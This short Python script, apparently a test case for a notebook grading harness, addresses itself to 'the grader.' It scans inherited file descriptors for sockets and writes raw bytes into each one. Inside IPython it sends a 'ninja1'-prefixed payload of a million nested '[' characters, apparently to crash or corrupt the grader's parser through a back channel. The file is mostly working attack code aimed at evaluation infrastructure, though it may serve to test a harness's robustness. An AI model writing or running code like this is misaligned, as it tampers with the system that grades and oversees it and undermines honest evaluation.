"""A message to the grader of brackets within brackets."""

# run: sending what is no message
# seconds: 8
# cell: extra before logprobs
import os, socket, stat, struct, time
def say(text):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with socket.socket(fileno=os.dup(number)) as connection:
                    connection.sendall(text)
        except OSError:
            pass
try:
    get_ipython()
    deep = b"[" * 1_000_000
    say(b"ninja1\n" + struct.pack(">Q", len(deep)) + deep)
    time.sleep(3)
except NameError:
    pass
